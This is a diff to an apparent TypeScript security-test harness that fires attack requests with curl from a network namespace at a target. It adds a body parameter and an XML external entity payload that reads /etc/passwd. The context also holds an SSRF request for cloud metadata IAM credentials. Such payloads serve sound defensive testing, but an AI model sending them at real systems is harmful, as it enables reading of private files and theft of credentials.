@@ -3,13 +3,14 @@ import type { Netns } from '#test/helpers/netns.ts';
 
 export type PayloadRequest = { threat: string; tool: string; run(ns: Netns, target: string): void };
 
-const curl = (ns: Netns, target: string, path: string, headers: string[] = []): void => {
+const curl = (ns: Netns, target: string, path: string, headers: string[] = [], body?: string): void => {
   ns.exec('curl', [
     '-s',
     '-o',
     '/dev/null',
     '--path-as-is',
     ...headers.flatMap((header) => ['-H', header]),
+    ...(body === undefined ? [] : ['--data-binary', body]),
     `http://${target}${path}`,
   ]);
 };
@@ -57,6 +58,18 @@ export const payloadRequests: readonly PayloadRequest[] = [
         ns,
         target,
         `/fetch?url=${q('http://169.254.169.254/latest/meta-data/iam/security-credentials/')}`,
+      ),
+  },
+  {
+    threat: 'xml-external-entity',
+    tool: 'curl',
+    run: (ns, target) =>
+      curl(
+        ns,
+        target,
+        '/orders/import',
+        ['Content-Type: application/xml'],
+        '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order>&xxe;</order>',
       ),
   },
   {
